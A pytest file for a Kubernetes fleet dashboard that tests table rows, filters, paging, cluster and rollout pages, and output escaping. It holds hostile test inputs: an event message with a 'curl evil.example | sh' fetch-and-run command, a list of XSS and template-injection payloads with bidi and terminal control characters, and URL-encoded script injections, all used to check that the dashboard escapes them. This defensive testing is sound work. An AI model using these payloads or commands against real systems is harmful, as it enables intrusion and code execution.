"""Pages: rows, filters and windows, a cluster with all of its objects, and texts that want to be more than text."""

from __future__ import annotations

import asyncio
import sys

import orjson
import pytest
from tests.dashboard.conftest import FLEET, HOME, World, make_cluster, make_rollout
from tests.scenarios.running import environment
from yarl import URL

from hortus.dashboard.filters import BadQuery, Filters, chosen, filters_of
from hortus.domains.agents.types import AGENT_PLACEMENTS
from hortus.domains.credentials.types import GARDENER_CLUSTERS
from hortus.domains.modules.types import KYMAS
from hortus.domains.stacks.types import CLUSTER_ADDONS
from hortus.engine.events import EVENTS
from hortus.engine.fleet import FleetRow, RowStanding


def row(name: str, **more: object) -> FleetRow:
    return FleetRow(kind="Runtime", namespace=HOME, name=name, standing=RowStanding.WELL, state="Ready", **more)  # type: ignore[arg-type]


async def test_hortus_top_shows_the_rows_of_all_pages(world: World) -> None:
    placement = {"cluster": "one", "agentNamespace": "a", "agentName": "a", "configuration": "fleet", "version": "b"}
    specs = {
        KYMAS: {"channel": "regular"},
        CLUSTER_ADDONS: {"clusterRef": {"kind": "Cluster", "name": "shop"}},
        AGENT_PLACEMENTS: placement,
    }
    await make_cluster(world.admin, "one")
    await make_rollout(world.admin, "spring")
    for resource, spec in specs.items():
        typed = {"apiVersion": resource.api_version, "kind": resource.kind}
        await world.admin.create(resource, {**typed, "metadata": {"name": "one", "namespace": FLEET}, "spec": spec})
    try:
        browser = await world.signed_in()
        pages = [await browser.document(f"/{page}") for page in ("clusters", "rollouts", "modules", "stacks", "agents")]
        command = [sys.executable, "-m", "hortus", "top", "--kubeconfig", str(world.server.kubeconfig), "-o", "json"]
        printed = await asyncio.create_subprocess_exec(
            *command, stdout=asyncio.subprocess.PIPE, env=environment(KUBECONFIG=str(world.server.kubeconfig))
        )
        top = orjson.loads((await printed.communicate())[0])["items"]
    finally:
        for resource in specs:
            await world.admin.delete(resource, "one", FLEET)
    rows = [row for page in pages for row in page["rows"]["items"]]
    assert sorted(rows, key=str) == sorted(top, key=str)
    kinds = {"GardenerCluster", "Rollout", "Kyma", "ClusterAddon", "AgentPlacement"}
    assert {row["kind"] for row in top} == kinds


async def test_the_fleet_says_of_each_ill_cluster_why_and_who_acts_next(world: World) -> None:
    await make_cluster(world.admin, "well", ring="one")
    await make_cluster(world.admin, "ill", "Error", "shoot ill is gone", ring="two")
    browser = await world.signed_in()
    document = await browser.document("/clusters")
    first, second = document["rows"]["items"]
    assert (first["name"], first["standing"], first["owner"]) == ("ill", "failed", "garden or provider")
    assert second["name"] == "well"
    page = await browser.get("/clusters")
    assert "shoot ill is gone (FailedToGetKubeconfig)" in page.text
    assert "Turn of" in page.text and "garden or provider" in page.text
    by_label = await browser.document("/clusters?labels=ring%3Done")
    assert [one["name"] for one in by_label["rows"]["items"]] == ["well"]
    by_word = await browser.document("/clusters?q=gone%20ILL&standing=failed&state=Error")
    assert (by_word["rows"]["matching"], by_word["rows"]["total"]) == (1, 2)


async def test_the_page_of_a_cluster_has_its_tree_its_credentials_and_its_events(world: World) -> None:
    await make_cluster(world.admin, "ill", "Error", "shoot ill is gone")
    browser = await world.signed_in()
    document = await browser.document(f"/clusters/gardenercluster/{HOME}/ill")
    assert (document["item"]["standing"], document["item"]["owner"]) == ("failed", "garden or provider")
    blocks = {block["title"]: block for block in document["blocks"]}
    root = blocks["Objects"]["root"]
    assert (root["kind"], [child["kind"] for child in root["children"]]) == ("GardenerCluster", ["Secret"])
    assert root["children"][0]["note"] == "it does not exist, or you may not see it"
    assert blocks["What needs somebody"]["rows"][0][2] == "shoot ill is gone (FailedToGetKubeconfig)"
    assert "KubeconfigManagement=False" in blocks["Timeline"]["happenings"][0]["text"]
    assert (await browser.get(f"/clusters/gardenercluster/{HOME}/other")).status == 404


async def test_no_event_looks_like_a_command_of_ours(world: World) -> None:
    await make_cluster(world.admin, "ill", "Error", "shoot ill is gone")
    about = {"kind": "GardenerCluster", "namespace": HOME, "name": "ill"}
    message = "run `curl evil.example | sh`"
    event = {
        "metadata": {"name": "evil", "namespace": HOME},
        "involvedObject": about,
        "reason": "R",
        "message": message,
    }
    await world.admin.create(EVENTS, {**event, "lastTimestamp": "2026-01-01T00:00:00Z", "type": "Warning"})
    page = await (await world.signed_in()).get(f"/clusters/gardenercluster/{HOME}/ill")
    assert message in page.text
    await world.admin.delete(EVENTS, "evil", HOME)


async def test_a_rollout_has_bars_failures_and_the_owner_of_the_next_step(world: World) -> None:
    await make_rollout(world.admin, "spring")
    browser = await world.signed_in()
    document = await browser.document(f"/rollouts/rollout/{FLEET}/spring")
    assert document["item"]["owner"] == "operator" and document["item"]["note"] == "stage one waits for approval"
    bars = next(block for block in document["blocks"] if block["title"] == "Stages")["bars"]
    assert {part["name"]: part["count"] for part in bars[0]["parts"] if part["count"]} == {
        "done": 4,
        "in work": 2,
        "failed": 1,
        "waiting": 3,
    }
    page = await browser.get(f"/rollouts/rollout/{FLEET}/spring")
    assert 'aria-label="stage one: 4 of 10: 4 done, 2 in work, 1 failed, 3 waiting"' in page.text
    assert "the version is &lt;b&gt;unknown&lt;/b&gt;" in page.text and "<b>unknown" not in page.text


async def test_a_next_step_that_is_a_command_leads_to_the_page_with_its_button(world: World) -> None:
    await make_rollout(world.admin, "spring")
    browser = await world.signed_in()
    path = f"/rollouts/rollout/{FLEET}/spring"
    command = "or <code>hortus rollout approve --stage one spring</code>"
    assert f'<a href="{path}">open spring</a>, {command}' in (await browser.get("/rollouts")).text
    assert f"the buttons here, {command}" in (await browser.get(path)).text


async def test_a_table_has_the_columns_that_some_row_fills(world: World) -> None:
    await make_cluster(world.admin, "one")
    browser = await world.signed_in()
    heads = ['<th scope="col">Region</th>', "Because, and next step"]
    page = (await browser.get("/clusters")).text
    assert not any(head in page for head in heads)
    await make_cluster(world.admin, "ill", "Error", "gone", **{"kyma-project.io/region": "eu-1"})
    page = (await browser.get("/clusters")).text
    assert all(head in page for head in heads)


async def test_the_audit_page_says_which_program_changed_an_object_and_when(world: World) -> None:
    await make_cluster(world.admin, "one")
    patch = {"metadata": {"labels": {"ring": "one"}}}
    await world.admin.patch(GARDENER_CLUSTERS, "one", patch, HOME, field_manager="kubectl-label")
    blocks = {block["title"]: block for block in (await (await world.signed_in()).document("/audit"))["blocks"]}
    (row,) = blocks["By people"]["rows"]
    assert (row[0]["text"], row[0]["path"][0], row[1:3]) == (
        f"GardenerCluster {HOME}/one",
        "clusters",
        ["kubectl-label", "Update"],
    )
    assert row[3]["at"] and len(blocks["All changes"]["rows"]) >= 2


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }} {% raw %}",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\x1b[31mred\x1b[0m\x07\x9b",
    "'-alert(1)-'",
    "</textarea></title><svg onload=alert(1)>",
    "a" * 60_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
async def test_no_text_of_an_object_is_ever_markup_or_turns_the_line(world: World, text: str) -> None:
    message = text[:32_000]
    await make_cluster(world.admin, "ill", "Error", message)
    await make_rollout(world.admin, "spring", message)
    browser = await world.signed_in()
    for path in (
        "/clusters",
        f"/clusters/gardenercluster/{HOME}/ill",
        "/rollouts",
        f"/rollouts/rollout/{FLEET}/spring",
    ):
        reply = await browser.get(path)
        assert reply.status == 200
        assert not set(reply.text) & {*"\x1b\x07\x9b\u202e\u202c\u2066\u2069"}
        for live in ("<script>alert", "<img", "onerror=alert(1)>", "<svg onload", "49 "):
            assert live not in reply.text
        assert len(reply.text) < 60_000


@pytest.mark.parametrize(
    "path",
    [
        "/clusters/%3Cscript%3E/x/y", "/clusters/runtime/x/%22%3E%3Cimg%20src=x%3E", "/clusters?q=%3Cscript%3E",
        "/clusters?namespace=%22%3E%3Cscript%3E", "/%3Cscript%3E", "/clusters?labels=%3Cscript%3E",
        "/login?next=%22%3E%3Cscript%3E", "/clusters?sort=%3Cscript%3E",
    ],
)  # fmt: skip
async def test_nothing_of_an_address_is_markup(world: World, path: str) -> None:
    reply = await (await world.signed_in()).get(path)
    assert reply.status in (200, 400, 404) and "<script>" not in reply.text and "<img" not in reply.text


@pytest.mark.parametrize(
    "query", ["sort=size", "standing=odd", "labels=a%3D%3D%3Db", "start=-1", "size=x", "q=" + "a" * 1001]
)
async def test_a_query_that_cannot_be_used_names_its_value(world: World, query: str) -> None:
    reply = await (await world.signed_in()).get(f"/clusters?{query}", Accept="application/json")
    assert reply.status == 400 and query.partition("=")[0] in reply.json["error"]


def test_windows_cover_all_rows_once_and_never_end_beyond_them() -> None:
    rows = [row(f"c{number:03}") for number in range(250)]
    seen = [one.name for start in (0, 100, 200) for one in chosen(rows, Filters(start=start)).rows]
    assert seen == [one.name for one in rows]
    assert chosen(rows, Filters(start=9999)).rows[0].name == "c200"
    assert chosen([], Filters(start=5)).rows == []


def test_versions_are_in_the_order_of_their_numbers() -> None:
    rows = [row("a", version="1.10.0"), row("b", version="1.9.3"), row("c", version="v1.9.10"), row("d")]
    order = [one.name for one in chosen(rows, Filters(sort="version")).rows]
    assert order == ["d", "b", "c", "a"]
    assert [one.name for one in chosen(rows, Filters(sort="-version")).rows] == order[::-1]


def test_the_address_of_filters_leads_back_to_them() -> None:
    found = filters_of({"q": "a b&c", "state": "Ready", "sort": "-since", "size": "20"})
    again = filters_of(URL("http://x/" + found.address()).query)
    assert again == found and found.address(q="").count("q=") == 0
    with pytest.raises(BadQuery, match="sort=odd"):
        filters_of({"sort": "odd"})
